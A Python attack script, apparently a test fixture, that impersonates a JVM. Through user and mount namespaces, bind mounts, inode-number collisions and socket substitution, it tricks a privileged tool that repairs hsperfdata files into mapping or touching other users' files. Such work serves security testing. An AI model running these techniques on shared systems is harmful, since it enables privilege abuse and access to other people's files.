"""A user who wants the files of others: python attacker.py UID GID HOW TRICK NAME [VICTIM [FD]].

It looks like a JVM to whoever repairs files around it. HOW it runs:

    user-namespace   in mounts that it chose, as any user can: unshare(2) of user and mount namespace
    setuid-helper    the same by a program such as bwrap or apptainer in setuid mode: the user namespace stays the machine's
    plain            as anybody does
    later            plain, until it does its trick in user and mount namespaces of its own

NAME is its directory in /tmp (`hsperfdata_NAME`), the file in it is named after its pid. It prints `PID n`, reads a line (what
it needs may be named after its pid, too), does its TRICK with what lies at VICTIM, and prints READY:

    same-number      maps a file of its own whose inode has VICTIM's number, and lays VICTIM over that
    mapped           lays VICTIM over its file, and maps it
    directory        lays the directory VICTIM, in which a file PID is open to all, over its own, and maps that file
    tmp              lays the directory VICTIM over /tmp, and maps VICTIM/hsperfdata_NAME/PID
    other-mount      maps its own file through another mount of the same /tmp
    open             maps /tmp/hsperfdata_NAME/PID as it is
    socket           lays the socket VICTIM over its attach socket, and calls listen() again on FD, its listener
    leftovers        lays the directory VICTIM over /tmp/hsperfdata_NAME: its files look as if a dead JVM had left them
"""

from __future__ import annotations

import ctypes
import mmap
import os
import socket
import sys
import threading
import time

LIBC = ctypes.CDLL(None, use_errno=True)
NEWNS, NEWUSER = 0x20000, 0x10000000
BIND, REC, PRIVATE = 0x1000, 0x4000, 1 << 18
PR_SET_DUMPABLE = 4
MOST_FILES = 3_000_000


def checked(result: int) -> None:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def mount(source: str, target: str, kind: str | None, flags: int) -> None:
    checked(LIBC.mount(source.encode(), target.encode(), kind and kind.encode(), ctypes.c_ulong(flags), None))


def lay(what: str, over: str) -> None:
    """A bind mount of a file or a directory over another."""
    if os.path.isdir(what):
        os.makedirs(over, exist_ok=True)
    else:
        os.close(os.open(over, os.O_CREAT | os.O_WRONLY, 0o600))
    mount(what, over, None, BIND)


def map_file(path: str) -> mmap.mmap:
    """As HotSpot does: shared, to be written."""
    fd = os.open(path, os.O_RDWR)
    try:
        return mmap.mmap(fd, mmap.PAGESIZE)
    finally:
        os.close(fd)


def file_of_number(directory: str, number: int) -> str:
    """A file whose inode has this number: those of a tmpfs are counted up."""
    for _ in range(MOST_FILES):
        path = f"{directory}/next"
        fd = os.open(path, os.O_CREAT | os.O_EXCL | os.O_RDWR, 0o600)
        found = os.fstat(fd).st_ino
        if found == number:
            os.ftruncate(fd, mmap.PAGESIZE)
            os.close(fd)
            return path
        os.close(fd)
        os.unlink(path)
        if found > number:
            break
    sys.exit(f"no file here will have the number {number}")


def drop(uid: int, gid: int) -> None:
    os.setgroups([])
    os.setresgid(gid, gid, gid)
    os.setresuid(uid, uid, uid)
    checked(LIBC.prctl(PR_SET_DUMPABLE, 1, 0, 0, 0))  # as after an ordinary login


def enter_user_namespace(uid: int, gid: int) -> None:
    checked(LIBC.unshare(NEWUSER | NEWNS))
    for name, line in (("setgroups", "deny"), ("uid_map", f"{uid} {uid} 1"), ("gid_map", f"{gid} {gid} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(line)


def library() -> mmap.mmap:
    """What makes it a JVM where it maps no counters."""
    path = f"/tmp/{os.getpid()}-libjvm.so"
    with open(path, "wb") as file:
        file.write(b"\0" * mmap.PAGESIZE)
    with open(path, "r+b") as file:
        mapped = mmap.mmap(file.fileno(), 0, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_WRITE)
    os.rename(path, "/tmp/libjvm.so")
    return mapped


def do(uid: int, gid: int, trick: str, name: str, victim: str, fd: int) -> object:
    """The trick; what it gives is kept."""
    directory = f"/tmp/hsperfdata_{name}"
    file = f"{directory}/{os.getpid()}"
    if trick == "tmp":
        lay(victim, "/tmp")
        return map_file(file)
    if trick == "open":
        return map_file(file)
    if trick == "directory":
        lay(victim, directory)
        return map_file(file)
    if trick == "leftovers":
        lay(victim, directory)
        return library()
    if trick == "socket":
        lay(victim, f"/tmp/.java_pid{os.getpid()}")
        listener = socket.socket(fileno=fd)
        listener.listen(5)
        return library(), listener
    os.mkdir(directory, 0o755)
    os.chown(directory, uid, gid)
    if trick == "other-mount":
        lay("/tmp", "/tmp/again")
        with open(file, "wb") as out:
            out.write(b"\xca\xfe\xc0\xc0".ljust(mmap.PAGESIZE, b"\0"))
        os.chown(file, uid, gid)
        return map_file(f"/tmp/again{file.removeprefix('/tmp')}")
    if trick == "mapped":
        lay(victim, file)
        return map_file(file)
    os.rename(file_of_number("/tmp", os.stat(victim).st_ino), file)
    mapped = map_file(file)
    lay(victim, file)
    return mapped


def main() -> None:
    uid, gid = int(sys.argv[1]), int(sys.argv[2])
    how, trick, name, victim, fd = (*sys.argv[3:], "", "")[:5]
    if how != "setuid-helper":
        drop(uid, gid)
    if how == "user-namespace":
        enter_user_namespace(uid, gid)
    if how == "setuid-helper":
        checked(LIBC.unshare(NEWNS))
    if how not in ("plain", "later"):
        mount("none", "/", None, REC | PRIVATE)
        mount("tmpfs", "/tmp", "tmpfs", 0)
    if how != "later":  # a process of several threads cannot enter a user namespace
        threading.Thread(target=time.sleep, args=(1e6,), daemon=True).start()
    print("PID", os.getpid(), flush=True)
    sys.stdin.readline()
    if how == "later":
        enter_user_namespace(uid, gid)
        mount("none", "/", None, REC | PRIVATE)
    kept = do(uid, gid, trick, name, victim, int(fd or -1))
    if how == "setuid-helper":
        drop(uid, gid)
    print("READY", flush=True)
    time.sleep(1e6)
    del kept


main()
